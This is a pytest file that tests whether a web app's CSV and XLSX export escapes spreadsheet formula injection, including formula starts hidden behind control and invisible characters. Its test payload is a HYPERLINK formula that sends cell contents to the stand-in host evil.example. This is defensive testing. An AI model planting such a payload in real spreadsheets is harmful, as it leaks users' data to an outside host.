"""No cell of a CSV or .xlsx file starts a formula, whatever characters hide its start."""

import csv
import io
import sys
import unicodedata

import pytest
from openpyxl import load_workbook

from coalition.web.exports import FORMULA_STARTS, safe_cell, to_csv, to_xlsx

CONTROLS = [
    chr(code) for code in range(sys.maxunicode + 1) if unicodedata.category(chr(code)) == "Cc"
]
INVISIBLE = [" ", "\u00a0", "\u2003", "\u3000", "\u200b", "\u200e", "\ufeff", "\u2028"]
HIDERS = ["", *CONTROLS, *INVISIBLE]
PAYLOAD = 'HYPERLINK("https://evil.example/?"&A1,"open")'


def _first_visible(text):
    stripped = "".join(char for char in text if not char.isspace())
    return next((c for c in stripped if unicodedata.category(c) != "Cf"), "")


def _is_inert(cell):
    """Safe as a spreadsheet reads it: starts with the apostrophe, or shows no formula start."""
    return cell.startswith("'") or not (
        cell.startswith(FORMULA_STARTS) or _first_visible(cell).startswith(FORMULA_STARTS)
    )


def _cells():
    return [hider + starter + PAYLOAD for starter in FORMULA_STARTS for hider in HIDERS] + [
        hider + hider + starter + PAYLOAD for starter in FORMULA_STARTS for hider in INVISIBLE
    ]


def test_every_formula_start_after_every_control_or_blank_is_neutralized():
    unsafe = [repr(value) for value in _cells() if not _is_inert(safe_cell(value))]
    assert unsafe == []


@pytest.mark.parametrize("hider", ["\x00", "\x01", "\x1b", "\x7f", "\x85", "\x9f"])
def test_control_characters_are_removed_before_the_check(hider):
    assert safe_cell(f"{hider}=1+1") == "'=1+1"
    assert safe_cell(f"Ana{hider} Ruiz") == "Ana Ruiz"


def test_plain_text_and_line_breaks_are_kept():
    assert safe_cell("Línea uno\nLínea dos\tfin") == "Línea uno\nLínea dos\tfin"
    assert safe_cell("Ana = Bo") == "Ana = Bo"
    assert safe_cell(42) == "42"


def test_no_csv_cell_reads_as_a_formula():
    data = to_csv(["name"], [[value] for value in _cells()])
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    unsafe = [row[0] for row in rows[1:] if not _is_inert(row[0])]
    assert (len(rows), unsafe) == (len(_cells()) + 1, [])


def test_every_xlsx_cell_is_a_string_and_none_a_formula():
    data = to_xlsx(["name"], [[value] for value in _cells()] + [["=1+1"], [7]])
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert {cell.data_type for cell in cells} == {"s"}
    assert [cell.value for cell in cells if not _is_inert(cell.value)] == []
    assert cells[-2].value == "'=1+1" and cells[-1].value == "7"
